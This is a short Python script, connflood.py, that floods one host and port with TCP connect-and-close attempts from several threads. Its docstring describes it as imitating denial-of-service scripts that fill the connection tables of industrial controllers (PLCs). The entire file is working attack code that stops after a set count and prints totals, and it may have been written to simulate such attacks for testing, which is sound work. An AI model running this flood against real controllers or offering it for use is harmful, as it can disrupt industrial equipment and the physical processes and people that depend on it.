"""A TCP connection flood: open and close connections to one port as fast as possible, no data.

What DoS scripts against PLCs do (threads each looping connect, close) to fill the device's
connection table.  Stops after COUNT connection attempts (refused or timed out ones count).
Prints the totals.  Must not write any file.

usage: connflood.py HOST PORT COUNT [THREADS]
"""

from __future__ import annotations

import socket
import sys
import threading


def main() -> None:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    threads = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    lock = threading.Lock()
    done = {"attempts": 0, "connected": 0, "failed": 0}

    def worker() -> None:
        while True:
            with lock:
                if done["attempts"] >= count:
                    return
                done["attempts"] += 1
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(1.0)
            try:
                sock.connect((host, port))
                outcome = "connected"
            except OSError:
                outcome = "failed"
            finally:
                sock.close()
            with lock:
                done[outcome] += 1

    workers = [threading.Thread(target=worker) for _ in range(threads)]
    for thread in workers:
        thread.start()
    for thread in workers:
        thread.join()
    print(f"done: {done}", flush=True)


if __name__ == "__main__":
    main()
